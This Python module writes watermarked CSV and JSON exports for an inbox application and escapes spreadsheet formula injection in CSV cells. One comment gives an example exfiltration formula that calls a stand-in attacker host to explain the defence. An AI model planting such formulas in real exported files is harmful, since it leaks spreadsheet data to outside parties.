"""How an export is written: CSV (formula-injection safe) or JSON, streamed row by row, each
file watermarked with who exported it, when, and the export's id."""

from __future__ import annotations

import csv
import json
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass
from datetime import datetime
from typing import Protocol, TextIO

from inbox.exports.models import ExportJob

Row = Sequence[object]
Progress = Callable[[int], None]

# A spreadsheet runs a cell that starts with one of these as a formula
# (`=HYPERLINK("https://evil.example/?"&A1, "Click")`); OWASP's advice is to prefix it with
# a single quote, which shows the text as typed and runs nothing.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


@dataclass(frozen=True)
class Watermark:
    export_id: int
    username: str
    user_id: int
    inbox_name: str
    kind: str
    at: datetime

    @property
    def stamp(self) -> str:
        return self.at.strftime("%Y%m%dT%H%M%SZ")

    def text(self) -> str:
        return (
            f"Portcullis export {self.export_id}: {self.kind} of inbox “{self.inbox_name}”, "
            f"by {self.username} (user {self.user_id}) at {self.at.isoformat()}. "
            "Confidential: for use inside the company only."
        )

    def as_dict(self) -> dict[str, object]:
        return {
            "export_id": self.export_id,
            "user": self.username,
            "user_id": self.user_id,
            "inbox": self.inbox_name,
            "kind": self.kind,
            "exported_at": self.at.isoformat(),
            "notice": "Confidential: for use inside the company only.",
        }


def csv_cell(value: object) -> object:
    if isinstance(value, datetime):
        return value.isoformat()
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def _json_value(value: object) -> object:
    return value.isoformat() if isinstance(value, datetime) else value


class Writer(Protocol):
    extension: str
    content_type: str

    def write(
        self,
        out: TextIO,
        watermark: Watermark,
        columns: Sequence[str],
        chunks: Iterable[list[Row]],
        progress: Progress,
    ) -> None: ...


class CsvWriter:
    extension = "csv"
    content_type = "text/csv; charset=utf-8"

    def write(
        self,
        out: TextIO,
        watermark: Watermark,
        columns: Sequence[str],
        chunks: Iterable[list[Row]],
        progress: Progress,
    ) -> None:
        writer = csv.writer(out)
        # The first line carries the watermark: a copy of the file says whose it was.
        writer.writerow([f"# {watermark.text()}"])
        writer.writerow(columns)
        for rows in chunks:
            writer.writerows([csv_cell(value) for value in row] for row in rows)
            progress(len(rows))


class JsonWriter:
    extension = "json"
    content_type = "application/json"

    def write(
        self,
        out: TextIO,
        watermark: Watermark,
        columns: Sequence[str],
        chunks: Iterable[list[Row]],
        progress: Progress,
    ) -> None:
        out.write('{"watermark": ' + json.dumps(watermark.as_dict(), ensure_ascii=False) + ',\n"rows": [')
        separator = "\n"
        for rows in chunks:
            for row in rows:
                record = dict(zip(columns, (_json_value(value) for value in row), strict=True))
                out.write(separator + json.dumps(record, ensure_ascii=False))
                separator = ",\n"
            progress(len(rows))
        out.write("\n]}\n")


WRITERS: dict[str, Writer] = {ExportJob.Format.CSV: CsvWriter(), ExportJob.Format.JSON: JsonWriter()}
